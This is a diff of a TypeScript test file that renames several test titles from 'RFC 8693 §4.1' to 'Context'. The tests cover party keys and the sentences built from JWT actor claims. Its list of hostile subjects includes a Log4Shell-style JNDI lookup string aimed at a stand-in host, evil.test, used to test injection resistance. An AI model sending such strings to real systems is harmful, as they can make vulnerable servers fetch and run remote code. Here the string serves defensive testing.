@@ -167,7 +167,7 @@ const party = (assertedBy: string, issuer: string | null, subject: string): Part
   profiles: [],
 })
 
-test('RFC 8693 §4.1: partyKey tells parties apart by all three parts, whatever characters they hold', () => {
+test('Context: partyKey tells parties apart by all three parts, whatever characters they hold', () => {
   const parties = [
     party('a', 'b', 'c'),
     party('a', null, 'c'),
@@ -187,7 +187,7 @@ test('RFC 8693 §4.1: partyKey tells parties apart by all three parts, whatever 
   expect(new Set(parties.map(partyKey)).size).toBe(parties.length)
 })
 
-test('RFC 8693 §4.1: partyKey can be read back, is printable ASCII, and does not depend on what a party is', () => {
+test('Context: partyKey can be read back, is printable ASCII, and does not depend on what a party is', () => {
   const text = fc.string({ unit: 'binary', minLength: 1 })
   fc.assert(
     fc.property(text, fc.option(text), text, (assertedBy, issuer, subject) => {
@@ -210,7 +210,7 @@ test.each([
   ],
   [{ sub: 'alice@example.com', act: { sub: 'spiffe://x/y' } }, 'party spiffe://x/y for human alice@example.com'],
   [{ act: { sub: 'alice' } }, 'human alice'],
-])('RFC 8693 §4.1: the sentence of %j', async (claims, line) => {
+])('Context: the sentence of %j', async (claims, line) => {
   expect(sentence(await contextFor(claims))).toBe(line)
 })
 
@@ -233,7 +233,7 @@ const hostile = [
   '$\u007bjndi:ldap://evil.test/a}',
 ]
 
-test('RFC 8693 §4.1: no subject can forge a line or a second clause of the sentence', async () => {
+test('Context: no subject can forge a line or a second clause of the sentence', async () => {
   const lines = new Set<string>()
   for (const subject of hostile) {
     for (const claims of [{ sub: subject }, { act: agent(subject) }, { act: agent('x', agent(subject)) }]) {
